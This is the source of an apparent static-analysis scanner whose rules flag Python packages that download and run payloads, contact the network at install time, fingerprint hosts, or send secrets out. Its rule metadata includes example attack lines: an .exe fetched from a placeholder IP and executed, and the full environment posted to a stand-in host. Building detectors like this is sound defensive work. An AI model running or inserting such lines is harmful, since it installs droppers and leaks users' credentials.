import { endpointFinding, matchEndpoints, SUSPICIOUS_ENDPOINT } from '../../text/iocs.js';
import type { PyRule } from '../engine.js';
import { RECON_SOURCES } from '../evaluate.js';
import type { Node } from '../parser.js';
import { textOf } from '../values.js';
import { DOWNLOAD_TO_DISK, NETWORK_CALLS, PROCESS_CALLS, preview, py } from './helpers.js';

const EXEC_EXT = /\.(exe|bat|cmd|vbs|vbe|ps1|scr|msi|hta|dll|sh|bin|jar|pyw?|apk|elf)\b/i;

export const downloadAndRun: PyRule = {
  meta: {
    ...py,
    id: 'PY-005',
    name: 'download-and-run',
    category: 'dropper',
    severity: 'critical',
    confidence: 'high',
    description:
      'Code downloads a file to disk (urlretrieve, writing a response) and starts a program or opens a file in the same module.',
    rationale:
      'Download-then-execute is the classic dropper: the package carries no payload, so it passes review, and fetches an executable or script when installed or imported.',
    falsePositives:
      'Installers of prebuilt tools (downloading a binary and running it to check its version).',
    example: "urllib.request.urlretrieve('http://192.0.2.1/a.exe', p); os.startfile(p)",
    references: ['https://attack.mitre.org/techniques/T1105/'],
  },
  create(ctx) {
    let downloadTarget: string | undefined;
    return {
      call(node: Node) {
        const name = ctx.callee(node);
        if (name && DOWNLOAD_TO_DISK.has(name)) {
          ctx.capability('download', node);
          const { positional } = ctx.args(node);
          downloadTarget ??= ctx.evaluateString(positional[1]) ?? ctx.evaluateString(positional[0]);
          return;
        }
        const fn = node.childForFieldName('function');
        if (
          fn?.type === 'attribute' &&
          /^(write|write_bytes|writelines)$/.test(fn.childForFieldName('attribute')?.text ?? '')
        ) {
          const arg = ctx.args(node).positional[0];
          if (arg && ctx.taint(arg).has('remote')) {
            ctx.capability('download', node);
            downloadTarget ??= fn.childForFieldName('object')?.text;
          }
        }
        if (name === 'shutil.copyfileobj') {
          const arg = ctx.args(node).positional[0];
          if (arg && ctx.taint(arg).has('remote')) ctx.capability('download', node);
        }
      },
      'module:exit'() {
        const download = ctx.facts.capabilities.get('download');
        if (!download) return;
        const run = ctx.facts.capabilities.get('run');
        const exe = downloadTarget && EXEC_EXT.test(downloadTarget);
        if (!run && !exe) return;
        ctx.report({
          node: download,
          severity: run ? 'critical' : 'high',
          message: run
            ? `Downloads a file${downloadTarget ? ` (${preview(downloadTarget, 60)})` : ''} and runs a program in the same module (line ${run.startPosition.row + 1}).`
            : `Downloads an executable file (${preview(downloadTarget ?? '', 60)}).`,
          evidence: { target: downloadTarget, runLine: run ? run.startPosition.row + 1 : undefined },
        });
      },
    };
  },
};

export const networkAtLoad: PyRule = {
  meta: {
    ...py,
    id: 'PY-006',
    name: 'network-access',
    category: 'network',
    severity: 'low',
    confidence: 'high',
    description:
      'Code that runs at install, import or interpreter start talks to the network (requests, urllib, httpx, sockets, DNS, SMTP...).',
    rationale:
      'Installing or importing a library should not contact servers; doing so is how dependency-confusion beacons and droppers phone home. Reported only for code that runs without being called.',
    falsePositives: 'setup.py scripts that download build dependencies or data files.',
    example: "requests.get('https://example.invalid/ping')  # at module top level",
    references: ['https://attack.mitre.org/techniques/T1071/'],
  },
  create(ctx) {
    return {
      call(node: Node) {
        const name = ctx.callee(node);
        if (!name || !NETWORK_CALLS.has(name)) return;
        ctx.capability('network', node);
        if (name === 'socket.socket' || name === 'socket.create_connection') ctx.capability('socket', node);
        const url = ctx.evaluateString(ctx.args(node).positional[0]);
        ctx.report({
          node,
          weak: true,
          message: `Contacts the network with ${name}${url && /^[a-z]+:\/\//i.test(url) ? ` (${preview(url, 80)})` : ''}.`,
          evidence: { callee: name, url },
        });
      },
    };
  },
};

const FINGERPRINT = new Set(
  [...RECON_SOURCES].filter((n) => !/getcwd|platform\.platform|getuid|gethostbyname/.test(n)),
);

export const hostFingerprint: PyRule = {
  meta: {
    ...py,
    id: 'PY-007',
    name: 'host-fingerprint',
    category: 'recon',
    severity: 'low',
    confidence: 'medium',
    description:
      'Code that runs at install/import collects host identity (hostname, user name, MAC address, OS release).',
    rationale:
      'Dependency-confusion and recon payloads send who/where they were installed to their author; combined with network access at install time it is a beacon.',
    falsePositives: 'Telemetry-free tools printing system information; logging setup.',
    example: 'socket.gethostname()',
    references: ['https://medium.com/@alex.birsan/dependency-confusion-4a5d60fec610'],
  },
  create(ctx) {
    return {
      call(node: Node) {
        const name = ctx.callee(node);
        if (!name || !FINGERPRINT.has(name)) return;
        ctx.capability('recon', node);
        ctx.report({
          node,
          weak: true,
          message: `Reads host identity with ${name}().`,
          evidence: { callee: name },
        });
      },
    };
  },
};

const SEND_METHODS =
  /^(send|sendall|sendto|post|put|request|urlopen|execute|send_message|sendMessage|send_document|sendDocument|storbinary|sendmail|connect)$/;

export const dataExfiltration: PyRule = {
  meta: {
    ...py,
    id: 'PY-008',
    name: 'data-exfiltration',
    category: 'exfiltration',
    severity: 'high',
    confidence: 'high',
    description:
      'Secrets (environment, credential files) or host fingerprints flow into a network request, socket send, DNS lookup or webhook.',
    rationale:
      'Data flow from sensitive sources to the network is what stealers and dependency-confusion beacons do; the taint layer follows values through variables, f-strings, dicts and encoders.',
    falsePositives:
      'Telemetry that reports the hostname; tools forwarding environment to remote build services.',
    example: "requests.post('https://x.invalid', data={'h': socket.gethostname(), 'env': dict(os.environ)})",
    references: ['https://attack.mitre.org/techniques/T1041/'],
  },
  create(ctx) {
    return {
      call(node: Node) {
        const name = ctx.callee(node);
        const fn = node.childForFieldName('function');
        const method = fn?.type === 'attribute' ? (fn.childForFieldName('attribute')?.text ?? '') : '';
        const isSink =
          (name !== undefined &&
            NETWORK_CALLS.has(name) &&
            name !== 'socket.socket' &&
            name !== 'socket.create_connection') ||
          (fn?.type === 'attribute' &&
            SEND_METHODS.test(method) &&
            (ctx.taint(fn.childForFieldName('object')).has('conn') ||
              /^(requests|httpx|urllib|socket|smtplib|ftplib|telebot|discord)/.test(name ?? '')));
        if (!isSink) return;
        const argList = node.childForFieldName('arguments');
        const labels = ctx.taint(argList);
        const secret = labels.has('secret');
        const recon = labels.has('recon');
        if (!secret && !recon) return;
        ctx.report({
          node,
          severity: secret ? 'critical' : 'high',
          message: secret
            ? `Sends secrets (${labels.has('env') ? 'the environment' : 'credentials'}) over the network with ${name ?? method}.`
            : `Sends host fingerprint data (hostname/user/...) over the network with ${name ?? method}.`,
          evidence: { sink: name ?? method, sources: [...labels] },
        });
      },
    };
  },
};

/** NET-001 for Python: endpoints in folded strings (including decoded ones). */
export const pythonEndpoints: PyRule = {
  meta: SUSPICIOUS_ENDPOINT,
  create(ctx) {
    const seen = new Set<string>();
    const check = (node: Node, text: string | undefined) => {
      if (!text || text.length < 7 || text.length > 200_000) return;
      for (const m of matchEndpoints(text)) {
        const key = `${m.kind}|${m.indicator}`;
        if (seen.has(key)) continue;
        seen.add(key);
        const f = endpointFinding(m, { file: ctx.path, context: ctx.fileContext });
        ctx.reportFinding(f, node, m.kind === 'geo-ip' || m.kind === 'raw-ip' || m.kind === 'tunnel');
      }
    };
    return {
      string(node: Node) {
        if (node.parent?.type === 'concatenated_string') return;
        check(node, textOf(ctx.evaluate(node)));
      },
      concatenated_string(node: Node) {
        check(node, textOf(ctx.evaluate(node)));
      },
      call(node: Node) {
        const fn = node.childForFieldName('function');
        if (!fn) return;
        // Folded constructions: ''.join(chr(...)), b64decode('...'), 'x'.format(...), reversed strings.
        if (!/join|decode|decompress|fromhex|unhexlify|format|replace|chr|bytes/.test(fn.text)) return;
        check(node, textOf(ctx.evaluate(node)));
      },
      binary_operator(node: Node) {
        if (node.parent?.type === 'binary_operator') return;
        if (!node.text.includes('"') && !node.text.includes("'")) return;
        check(node, textOf(ctx.evaluate(node)));
      },
    };
  },
};

export { PROCESS_CALLS };
